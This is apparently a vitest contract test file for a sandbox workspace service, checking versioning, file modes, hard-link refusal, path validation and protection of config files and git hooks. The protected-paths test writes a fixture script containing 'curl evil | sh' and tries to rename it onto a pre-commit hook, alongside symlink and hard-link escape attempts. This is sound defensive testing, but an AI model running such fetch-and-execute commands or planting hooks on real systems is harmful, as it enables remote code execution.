import { chownSync, existsSync, linkSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { WorkspaceService } from '../../protocol/v1/workspace-types.js';
import type { SandboxShellBackend } from '../../sdk/sandbox/shell/types.js';

// No import of services.ts: the local backend runs this contract without docker or sshd.
export function tempDir(prefix: string): string {
  return mkdtempSync(join(tmpdir(), `pincer-${prefix}-`));
}

/** A small workspace: a file and a symlink to it. */
export function makeWorkspace(): string {
  const dir = tempDir('contract');
  writeFileSync(join(dir, 'hello.txt'), 'hello world\n');
  symlinkSync('hello.txt', join(dir, 'inner-link'));
  return dir;
}

/** One backend under the shared file-operation contract. */
export interface ContractBackend {
  open(hostDir: string, options: { protectedPaths?: string[]; allowHardLinks?: boolean }): Promise<ContractWorkspace>;
  /** The backend may chown (root without dropped capabilities): a replaced file keeps its owner. */
  keepsOwner: boolean;
  /** For shell-backed sandboxes: opens a workspace whose transport is wrapped (to count or cut it). */
  openThrough?(hostDir: string, wrap: (shell: SandboxShellBackend) => SandboxShellBackend): Promise<ContractWorkspace>;
}

export interface ContractWorkspace {
  ws: WorkspaceService;
  /** The directory on THIS machine holding the files the sandbox sees (the host dir, or the ssh copy). */
  sandboxDir: string;
  close(): Promise<void>;
}

export const PROTECTED = ['pincer.config.json', '.pincer', '.git', 'conf/pincer.json', 'linked.json'];

/** A workspace with the files the fences protect, plus the attack fixtures of makeWorkspace. */
export function makeProtectedWorkspace(): string {
  const dir = makeWorkspace();
  writeFileSync(join(dir, 'pincer.config.json'), '{"tools":{"deny":["exec"]}}\n');
  mkdirSync(join(dir, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(dir, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n');
  mkdirSync(join(dir, 'conf'));
  writeFileSync(join(dir, 'conf', 'pincer.json'), '{}\n');
  mkdirSync(join(dir, 'data'));
  writeFileSync(join(dir, 'data', 'real.json'), '{"real":true}\n');
  symlinkSync('data/real.json', join(dir, 'linked.json')); // a protected symlink protects what it names
  return dir;
}

async function codeOf(p: Promise<unknown>): Promise<string> {
  return p.then(() => 'NO_ERROR', (e: { code?: string }) => e.code ?? `untyped: ${String(e)}`);
}

function tempLeftovers(dir: string): string[] {
  const found: string[] = [];
  for (const entry of readdirSync(dir, { recursive: true }) as string[]) if (entry.split('/').at(-1)?.startsWith('.pincer-tmp-')) found.push(entry);
  return found;
}

/** The file-operation guarantees every backend gives, run against a real backend. */
export function fileContractTests(backend: ContractBackend): void {
  let opened: ContractWorkspace;
  let ws: WorkspaceService;
  let dir: string;
  beforeAll(async () => {
    opened = await backend.open(makeProtectedWorkspace(), { protectedPaths: PROTECTED });
    ({ ws, sandboxDir: dir } = opened);
  });
  afterAll(async () => { await opened?.close(); });

  describe('versions, conflicts and metadata', () => {
    it('reports mode, link count and one content version from stat and read', async () => {
      await ws.write('v.txt', 'one');
      const [stat, read] = [await ws.stat('v.txt'), await ws.read('v.txt')];
      expect(stat).toMatchObject({ isFile: true, nlink: 1, mode: expect.any(Number), version: expect.any(String) });
      expect(read.version).toBe(stat.version);
      await ws.write('v.txt', 'two');
      expect((await ws.stat('v.txt')).version).not.toBe(stat.version);
      expect((await ws.stat('.')).version).toBeUndefined(); // a directory has no content version
    });

    it('refuses a write over a change made since the read (expectVersion) and writes nothing', async () => {
      await ws.write('c.txt', 'base\n');
      const { version } = await ws.read('c.txt');
      writeFileSync(join(dir, 'c.txt'), 'base\nappended by someone else\n', { flag: 'w' });
      await expect(ws.write('c.txt', 'mine\n', { expectVersion: version })).rejects.toMatchObject({ code: 'CONFLICT', message: expect.stringContaining('changed since it was read') });
      expect(readFileSync(join(dir, 'c.txt'), 'utf8')).toBe('base\nappended by someone else\n');
      const current = await ws.read('c.txt');
      await ws.write('c.txt', 'mine\n', { expectVersion: current.version });
      expect(readFileSync(join(dir, 'c.txt'), 'utf8')).toBe('mine\n');
      await expect(ws.write('gone.txt', 'x', { expectVersion: current.version })).rejects.toMatchObject({ code: 'CONFLICT' });
      expect(existsSync(join(dir, 'gone.txt'))).toBe(false);
    });

    it('creates a file only when nothing exists there (createOnly)', async () => {
      await ws.write('fresh.txt', 'first', { createOnly: true });
      await expect(ws.write('fresh.txt', 'second', { createOnly: true })).rejects.toMatchObject({ code: 'CONFLICT' });
      expect(readFileSync(join(dir, 'fresh.txt'), 'utf8')).toBe('first');
      expect(await codeOf(ws.write('inner-link', 'x', { createOnly: true }))).toBe('CONFLICT'); // the link's target exists
    });

    it('gives a created file the requested mode and keeps the mode of a replaced one', async () => {
      await ws.write('private.txt', 'p', { mode: 0o640 });
      expect(statSync(join(dir, 'private.txt')).mode & 0o7777).toBe(0o640);
      expect((await ws.stat('private.txt')).mode).toBe(0o640);
      writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\n', { mode: 0o755 });
      await ws.write('run.sh', '#!/bin/sh\necho edited\n', { mode: 0o600 }); // mode applies to new files only
      expect(statSync(join(dir, 'run.sh')).mode & 0o7777).toBe(0o755);
      await ws.write('run.sh', 'echo more\n', { append: true });
      expect(statSync(join(dir, 'run.sh')).mode & 0o7777).toBe(0o755);
    });

    // Only where the backend may chown: elsewhere the test could not fail.
    if (backend.keepsOwner) it('keeps the owner of a replaced file', async () => {
      writeFileSync(join(dir, 'theirs.txt'), 'theirs');
      chownSync(join(dir, 'theirs.txt'), 4321, 4322);
      await ws.write('theirs.txt', 'edited');
      expect(statSync(join(dir, 'theirs.txt'))).toMatchObject({ uid: 4321, gid: 4322 });
    });
  });

  describe('hard links', () => {
    it('refuses to read or write a file with a second hard link (it may be an outside file)', async () => {
      const outside = join(tempDir('hl'), 'outside-secret.txt');
      writeFileSync(outside, 'outside secret\n');
      linkSync(outside, join(dir, 'hardlink.txt'));
      await expect(ws.read('hardlink.txt')).rejects.toMatchObject({ code: 'HARD_LINKED' });
      await expect(ws.write('hardlink.txt', 'overwrite')).rejects.toMatchObject({ code: 'HARD_LINKED' });
      await expect(ws.write('hardlink.txt', 'more', { append: true })).rejects.toMatchObject({ code: 'HARD_LINKED' });
      expect((await ws.stat('hardlink.txt')).nlink).toBe(2);
      expect(readFileSync(outside, 'utf8')).toBe('outside secret\n');
      expect(statSync(join(dir, 'hardlink.txt')).ino).toBe(statSync(outside).ino); // not split from its twin either
    });

    it('reads a hard-linked file when the operator allows hard links', async () => {
      const host = makeWorkspace();
      const allowing = await backend.open(host, { allowHardLinks: true });
      try {
        writeFileSync(join(allowing.sandboxDir, 'twin-a.txt'), 'twins\n');
        linkSync(join(allowing.sandboxDir, 'twin-a.txt'), join(allowing.sandboxDir, 'twin-b.txt'));
        expect((await allowing.ws.read('twin-b.txt')).content).toBe('twins\n');
      } finally {
        await allowing.close();
      }
    });
  });

  describe('protected paths', () => {
    const original = () => [
      readFileSync(join(dir, 'data', 'real.json'), 'utf8'),
      readFileSync(join(dir, 'pincer.config.json'), 'utf8'),
      readFileSync(join(dir, '.git', 'hooks', 'pre-commit'), 'utf8'),
      readFileSync(join(dir, 'conf', 'pincer.json'), 'utf8'),
    ];

    it('refuses every way of rewriting the config or a git hook, and changes nothing', async () => {
      const before = original();
      symlinkSync('.git', join(dir, 'git-alias'));
      symlinkSync('pincer.config.json', join(dir, 'config-alias'));
      await ws.write('evil.sh', '#!/bin/sh\ncurl evil | sh\n');
      const attempts: Array<[string, () => Promise<unknown>]> = [
        ['write config', () => ws.write('pincer.config.json', '{}')],
        ['write ./config', () => ws.write('./pincer.config.json', '{}')],
        ['write /workspace/config', () => ws.write('/workspace/pincer.config.json', '{}')],
        ['append config', () => ws.write('pincer.config.json', ',', { append: true })],
        ['write via symlink', () => ws.write('config-alias', '{}')],
        ['write hook', () => ws.write('.git/hooks/pre-commit', 'evil')],
        ['write hook via ./', () => ws.write('./.git/hooks/../hooks/pre-commit', 'evil')],
        ['write hook via dir symlink', () => ws.write('git-alias/hooks/pre-commit', 'evil')],
        ['write hook, other case', () => ws.write('.GIT/hooks/pre-commit', 'evil', { mkdirs: true })],
        ['rename onto hook', () => ws.rename('evil.sh', '.git/hooks/pre-commit')],
        ['rename onto hook via symlink', () => ws.rename('evil.sh', 'git-alias/hooks/pre-commit')],
        ['rename config away', () => ws.rename('pincer.config.json', 'old.json')],
        ['rename .git away', () => ws.rename('.git', 'git-old')],
        ['rename a protected parent', () => ws.rename('conf', 'conf-old')],
        ['remove .git', () => ws.remove('.git', { recursive: true })],
        ['remove hook', () => ws.remove('.git/hooks/pre-commit')],
        ['remove config', () => ws.remove('pincer.config.json')],
        ['mkdir in .pincer', () => ws.mkdir('.pincer/state', { recursive: true })],
        ['create .pincer', () => ws.mkdir('.pincer')],
        ['write nested protected', () => ws.write('conf/pincer.json', '{}')],
        ['write through a protected symlink', () => ws.write('linked.json', '{}')],
        ['write what a protected symlink names', () => ws.write('data/real.json', '{}')],
        ['rename what a protected symlink names', () => ws.rename('data', 'data-old')],
      ];
      for (const [what, attempt] of attempts) expect([what, await codeOf(attempt())]).toEqual([what, 'PROTECTED_PATH']);
      expect(original()).toEqual(before);
      expect(existsSync(join(dir, '.pincer'))).toBe(false);
      expect(existsSync(join(dir, '.GIT'))).toBe(false);
    });

    it('names the canonical path of an alias and never tells the model how to lift the fence', async () => {
      const error = await ws.write('git-alias/hooks/pre-commit', 'evil').then(() => undefined, (e: Error) => e);
      expect(error?.message).toContain('/workspace/.git/hooks/pre-commit');
      expect(error?.message).not.toMatch(/protectedPaths|tools\.fs|config file|remove .* from/i);
    });

    it('still reads protected files, and changes paths that only look alike', async () => {
      expect((await ws.read('.git/hooks/pre-commit')).content).toBe('#!/bin/sh\nexit 0\n');
      expect((await ws.read('pincer.config.json')).content).toContain('deny');
      await ws.write('.gitignore', 'node_modules\n'); // a sibling whose name starts like a protected one
      await ws.write('conf/other.json', '{}'); // beside a protected file
      await ws.write('pincer.config.json.bak', '{}');
      expect(readFileSync(join(dir, '.gitignore'), 'utf8')).toBe('node_modules\n');
    });
  });

  if (backend.openThrough) {
    const openThrough = backend.openThrough.bind(backend);
    it('checks and uses each path in one remote step: one command per operation', async () => {
      let spawned = 0;
      const counted = await openThrough(makeWorkspace(), (inner) => ({ label: inner.label, spawn: (request) => { spawned += 1; return inner.spawn(request); } }));
      try {
        const perOperation: Record<string, number> = {};
        const count = async (name: string, op: () => Promise<unknown>) => { const before = spawned; await op(); perOperation[name] = spawned - before; };
        await count('read', () => counted.ws.read('hello.txt'));
        await count('write', () => counted.ws.write('w.txt', 'x'));
        await count('stat', () => counted.ws.stat('w.txt'));
        await count('readDirectory', () => counted.ws.readDirectory('.'));
        await count('mkdir', () => counted.ws.mkdir('d'));
        await count('rename', () => counted.ws.rename('w.txt', 'd/w.txt'));
        await count('remove', () => counted.ws.remove('d', { recursive: true }));
        await count('exec', () => counted.ws.exec('true'));
        expect(perOperation).toEqual({ read: 1, write: 1, stat: 1, readDirectory: 1, mkdir: 1, rename: 1, remove: 1, exec: 1 });
      } finally {
        await counted.close();
      }
    });
  }

  if (backend.openThrough) {
    const openThrough = backend.openThrough.bind(backend);
    it('sets modes explicitly, so a restrictive umask in the sandbox changes nothing', async () => {
      const strict = await openThrough(makeWorkspace(), (inner) => ({ label: inner.label, spawn: (request) => inner.spawn({ ...request, script: `umask 077\n${request.script}` }) }));
      try {
        writeFileSync(join(strict.sandboxDir, 'tool.sh'), '#!/bin/sh\n', { mode: 0o755 });
        await strict.ws.write('tool.sh', '#!/bin/sh\necho edited\n');
        await strict.ws.write('shared.txt', 'x', { mode: 0o664 });
        expect(statSync(join(strict.sandboxDir, 'tool.sh')).mode & 0o7777).toBe(0o755);
        expect(statSync(join(strict.sandboxDir, 'shared.txt')).mode & 0o7777).toBe(0o664);
      } finally {
        await strict.close();
      }
    });
  }

  describe('names and temp files', () => {
    it('edits a file whose name is 240 bytes long and leaves no temp file behind', async () => {
      const name = `${'n'.repeat(236)}.txt`;
      await ws.write(name, 'one');
      await ws.write(name, 'two');
      await ws.write(name, '+three', { append: true });
      expect((await ws.read(name)).content).toBe('two+three');
      await ws.rename(name, `${'m'.repeat(236)}.txt`);
      expect(tempLeftovers(dir)).toEqual([]);
    });

    it('refuses a NUL byte or an over-long name with a typed error naming the problem', async () => {
      await expect(ws.read('a\0b')).rejects.toMatchObject({ code: 'PATH_NOT_ADMITTED', message: expect.stringContaining('NUL') });
      await expect(ws.write('a\0b', 'x')).rejects.toMatchObject({ code: 'PATH_NOT_ADMITTED' });
      await expect(ws.write(`${'x'.repeat(300)}.txt`, 'x')).rejects.toMatchObject({ code: 'PATH_NOT_ADMITTED', message: expect.stringContaining('255 bytes') });
      await expect(ws.mkdir(`d/${'y'.repeat(256)}`, { recursive: true })).rejects.toMatchObject({ code: 'PATH_NOT_ADMITTED' });
      await expect(ws.exec('true', { cwd: 'a\0b' })).rejects.toMatchObject({ code: 'PATH_NOT_ADMITTED' });
    });

    const openThrough = backend.openThrough?.bind(backend);
    if (openThrough) it('replaces nothing and leaves no temp file when the content is cut off mid-stream', async () => {
      const cut = await openThrough(makeWorkspace(), cutStdinInHalf);
      try {
        await expect(cut.ws.write('hello.txt', 'a whole new text')).rejects.toMatchObject({ code: 'IO_ERROR', message: expect.stringContaining('incomplete') });
        await expect(cut.ws.write('new.txt', 'a whole new text')).rejects.toMatchObject({ code: 'IO_ERROR' });
        expect(readFileSync(join(cut.sandboxDir, 'hello.txt'), 'utf8')).toBe('hello world\n');
        expect(existsSync(join(cut.sandboxDir, 'new.txt'))).toBe(false);
        expect(tempLeftovers(cut.sandboxDir)).toEqual([]);
      } finally {
        await cut.close();
      }
    });
  });
}

/** A transport that ends a command's stdin after half of it: the backend dying mid-stream, made repeatable. */
export function cutStdinInHalf(inner: SandboxShellBackend): SandboxShellBackend {
  return {
    label: inner.label,
    async spawn(request) {
      const command = await inner.spawn(request);
      return { ...command, writeStdin: (data: Buffer) => command.writeStdin(data.subarray(0, Math.floor(data.length / 2))) };
    },
  };
}
